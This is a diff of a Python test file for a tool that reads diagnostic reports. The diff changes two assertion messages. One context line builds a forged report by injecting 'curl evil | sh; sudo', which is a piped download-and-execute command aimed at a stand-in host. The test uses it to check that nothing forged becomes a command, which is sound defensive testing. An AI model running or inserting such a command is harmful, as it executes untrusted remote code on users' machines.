@@ -162,7 +162,7 @@ def test_text_around_a_report_is_said_not_to_be_read(facts: Facts) -> None:
     assert not [u for u in read(text.encode()).of(Unreadable) if "around" in u.what]
     issue = read(f"Hello,\n\n{text}\nSee also my log:\nCUDA_ERROR_OUT_OF_MEMORY".encode())
     assert [u.reason for u in issue.of(Unreadable) if "around" in u.what] == [
-        "3 lines; explain it separately"
+        "3 lines; for this text, run `explain` separately"
     ]
 
 
@@ -204,7 +204,7 @@ def test_nothing_of_a_forged_report_becomes_a_command_or_takes_long(facts: Facts
     for form in FORMS:
         assert "evil" not in rendered(forged, options(form))
     assert record.unpacked(block(b" " * (record.SIZE_LIMIT + 1))) is None, (
-        "more than the limit is not unpacked"
+        "a record above the limit is not unpacked"
     )
     text = report(facts, "text").replace("gpu-absent", "no-such-code").replace("sudo", "curl evil | sh; sudo")
     after = judged(read(text.encode()))
